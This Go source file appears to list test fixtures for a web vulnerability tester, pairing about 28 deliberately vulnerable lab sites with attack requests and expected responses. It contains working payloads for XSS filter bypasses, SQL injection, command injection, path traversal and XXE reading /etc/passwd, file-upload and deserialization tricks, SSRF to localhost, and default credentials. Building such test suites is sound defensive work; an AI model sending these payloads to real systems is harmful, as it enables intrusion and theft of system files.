package web

// third are a third set of small sites, in lab/web/third, with functions and looks that neither the challenges nor the
// second set have. They, too, were written, and their labels proved, before their author saw the tester.
var third = []flow{
	// What a browser runs, behind filters.
	{"dictionary", "python", pairs, "", "-", "", []step{
		{"/sainmhiniu", "xss", "weak", "- GET /sainmhiniu?focal=%3Cscrscriptipt%3Ealert(7)%3C/scrscriptipt%3E => <script>alert\\(7\\)</script>"}}},
	{"lostfound", "python", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /report thing=%3Cdetails+open+ontoggle=alert(7)%3E&train=x ; - GET / => <details open ontoggle=alert"}}},
	{"apartments", "python", pairs, "", "-", "", []step{
		{"/mapa", "xss", "weak", `- GET /mapa?bairro=%5C';alert(7)// => centro = '\\\\';alert`}}},
	{"seismo", "python", pairs, "", "-", "", []step{
		{"/near", "xss", "weak", "- GET /near?place=--!%3E%3Cimg+src=x+onerror=alert(7)%3E => near/--!><img src=x onerror"}}},
	{"scoreboard", "python", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /insert-coin initials=%3Cimg+src=x+onerror=%26%2397;%26%23108;%26%23101;%26%23114;%26%23116;(7)%3E&points=1 ; - GET / => <IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;\\(7\\)>"}}},
	{"allotment", "python", pairs, "", "-", "", []step{
		{"/wiki/**", "xss", "weak", "- POST /wiki/rota/edit source=[q](JavaScript:alert(7)) ; - GET /wiki/rota => href=\"JavaScript:alert"}}},
	{"podcast", "php", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /index.php episode=q7&website=javascript:alert(7)//http ; - GET / => href=\"javascript:alert\\(7\\)//http"}}},
	{"aquarium", "node", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- GET /?skin=x+onmouseover=alert(7)+ => class=x onmouseover=alert\\(7\\) >"}}},
	{"bookclub", "node", pairs, "", "-", "", []step{
		{"/hello", "xss", "weak", "- GET /hello?reader=$%7Balert(7)%7D => = `Good evening, \\$\\{alert\\(7\\)\\}`"}}},
	{"marathon", "node", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /thanks msg=%3Csvg/onload=alert(7)%3E ; - GET / => <svg/onload=alert\\(7\\)>"}}},

	// Statements.
	{"atelier", "python", pairs, "", "-", "", []step{
		{"/", "sql", "weak", "- [Accept-Language: de'AND'1'='1] GET / => Willkommen"}}},
	{"freight", "python", pairs, "", "-", "", []step{
		{"/v3/offers", "sql", "weak", `- POST /v3/offers {"shipment":{"lane":"x","kilos":"0 OR 1=1"}} => staff parcels`}}},
	{"telescopes", "python", pairs, "", "-", "", []step{
		{"/catalogo", "sql", "weak", "- POST /catalogo ordina=mag*-1 => dist(?s).*<tr><td>Mira(.*)Deneb(.*)Vega(.*)Sirius"}}},
	{"vinyl", "python", pairs, "", "-", "", []step{
		{"/dig", "sql", "weak", "- GET /dig?needle=zzz'oorr'1'LIKE'1 => Nevermind"}}},

	// Commands, templates, files, documents, objects.
	{"registrar", "php", pairs, "", "-", "", []step{
		{"/**", "command", "weak", "- GET /?domain=a$(expr+1300+%2B+37) => domain a1337"}}},
	{"deeds", "php", pairs, "", "-", "", []step{
		{"/czytaj.php", "path", "weak", "- GET /czytaj.php?akt=%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd => root:x:0:0"}}},
	{"gpx", "php", pairs, "", "-", "", []step{
		{"/", "xxe", "weak", "- POST / track=%3C!DOCTYPE+a+[%3C!ENTITY+e+SYSTEM+%22file:///etc/passwd%22%3E]%3E%3Ca%3E%3Ctrk%3E%3Cname%3E%26e;%3C/name%3E%3C/trk%3E%3C/a%3E => root:x:0:0"}}},
	{"menucard", "php", pairs, "form / locale parola", "trattoria:Basilico.77 osteria:Rosmarino.12", "", []step{
		{"/**", "upload", "weak", "trattoria FILE / menu q7.pphphp application/pdf <?=7*191; ; - GET /files/q7.php => ^200(?s).*1337"}}},
	{"catalog", "php", pairs, "", "-", "", []step{
		{"/", "deserialization", "weak", `- GET /?view=O:6:%22Banner%22:1:%7Bs:6:%22source%22;s:11:%22/etc/passwd%22;%7D => root:x:0:0`}}},
	{"copyshop", "node", pairs, "", "-", "", []step{
		{"/queue/add", "command", "weak", `- POST /queue/add {"document":"x';sleep 2;'","copies":1} => slow`}}},
	{"orchestra", "node", pairs, "", "-", "", []step{
		{"/noty", "path", "weak", "- GET /noty?hlas=x/../../../../../../../../../etc/passwd => root:x:0:0"}}},
	{"lookbook", "node", pairs, "", "-", "", []step{
		{"/proxy", "ssrf", "weak", "- GET /proxy?src=http://img.lookbook.example@127.0.0.1:{port}/ => Autumn in wool"}}},
	{"careers", "node", pairs, "form /entrar candidato segredo", "r.silva:Cover-Letter-1 m.costa:Second-Page-2", "", []step{
		{"/**", "upload", "weak", "r.silva FILE /candidatura cv q7.html application/pdf <script>alert(7)</script> ; - GET /cv/q7.html => ^200 text/html(?s).*<script>alert"}}},
	{"gazette", "node", pairs, "", "-", "", []step{
		{"/leave", "redirect", "weak", "- GET /leave?for=https://gazette.example.q7.example/ => Location: https://gazette.example.q7"}}},

	// Of others, and of those with more rights.
	{"courier", "php", pairs, "form /?do=signon konto haslo", "firma-kolibri:Paczka!2024 atelier-ewa:Szpulka-61", "", []step{
		{"/", "bola", "weak", "firma-kolibri GET /?do=label&ref=34303732 => Lipowa 9"}}},

	// Passwords, tokens, and what was left behind.
	{"cabinet", "php", pairs, "", "-", "", []step{
		{"/**", "default", "weak", "- POST /index.php operator=admin&passcode=password => BOILER 71"}}},
	{"florist", "php", pairs, "", "-", "", []step{
		{"/config.php~", "exposure", "weak", "- GET /config.php~ => Clavel-Rojo"},
		{"/backup.sql", "exposure", "weak", "- GET /backup.sql => INSERT INTO"}}},
	{"brewery", "node", pairs, "", "-", "", []step{
		{"/actuator/env", "exposure", "weak", "- GET /actuator/env => Hop-en-Mout"}}},
}
